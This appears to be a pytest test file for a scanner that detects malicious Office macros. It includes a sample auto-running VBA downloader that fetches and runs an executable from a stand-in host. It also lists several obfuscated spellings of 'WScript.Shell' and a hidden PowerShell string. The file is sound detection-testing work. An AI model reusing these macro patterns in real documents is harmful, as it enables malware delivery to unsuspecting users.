"""Macros: what starts, runs, fetches and hides; and what ordinary macros do not."""

import time

import pytest

from fyke.files.base import Content
from fyke.files.documents.macros import Macros
from fyke.files.documents.vba_fold import fold
from fyke.model import Finding, Lead


def found(source):
    said = list(Macros().look(Content(source.encode(), "macros.bas", "vba", within=("xls", "vba"))))
    return {each.symbol.name: each for each in said if isinstance(each, Finding)}, [
        each.url for each in said if isinstance(each, Lead)
    ]


def test_a_downloader_is_named_after_its_file():
    """Starts by itself, fetches, runs: the family says so, and the address is a lead."""
    source = (
        'Sub Auto_Open()\nURLDownloadToFile 0, "http://example.org/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\n'
        'Shell Environ("TEMP") & "\\a.exe", 0\nEnd Sub\n'
    )
    findings, urls = found(source)
    assert findings["MACRO_AUTORUN_DOWNLOADER"].family == "Xls.Macro.AutoRunDownloader"
    assert urls == ["http://example.org/a.exe"]


@pytest.mark.parametrize(
    "text",
    [
        '"WScr" & "ipt.Sh" & "ell"', 'StrReverse("llehS.tpircSW")', 'Replace("WScrXXipt.SheXXll", "XX", "")',
        "Chr(87) & Chr(83) & Chr(99) & Chr(114) & Chr(105) & Chr(112) & Chr(116) & \".Shell\"",
        'Chr(40+47) & "Script.She" _\n & "ll"', '"5753637269" & "70742e5368656c6c"', '"V1NjcmlwdC5T" & "aGVsbA=="',
    ],
)  # fmt: skip
def test_words_put_together_are_read(text):
    """Joined, turned round, replaced, by numbers, in hexadecimal and base64."""
    findings, _ = found(f"Sub Document_Open()\nSet o = CreateObject({text})\no.Run x\nEnd Sub\n")
    assert "MACRO_HIDDEN_WORDS" in findings
    assert "MACRO_AUTORUN_SHELL" in findings


def test_constants_are_followed_to_where_they_are_used():
    """A variable that holds a text stands for it."""
    assert "powershell -w hidden" in fold('a = "power"\nb = a & "shell"\nc = b & " -w hidden"\n').made


def test_ordinary_macros_are_notes():
    """Reports, forms and sums: nothing above a note."""
    source = (
        'Private Sub Workbook_Open()\n    Sheets("Data").Activate\n    Range("A1") = "Total: " & Format(Now, "yyyy")\n'
        'End Sub\nSub Mail()\n    MsgBox "Report" & Chr(13) & "is ready", vbInformation\n'
        "    If shellColor > 3 Then Exit Sub\nEnd Sub\n"
    )
    findings, _ = found(source)
    assert set(findings) == {"MACRO", "MACRO_AUTORUN"}
    assert all(each.symbol.bits <= 1 for each in findings.values())


@pytest.mark.parametrize("piece", ['"a" & ', "Chr(1) & ", "(", "a = a & a\n", 'x = "', "StrReverse(", "'", "_\n "])
def test_folding_is_linear(piece):
    """A megabyte of any piece is folded within seconds."""
    started = time.process_time()
    fold(piece * (300_000 // len(piece)))
    assert time.process_time() - started < 4
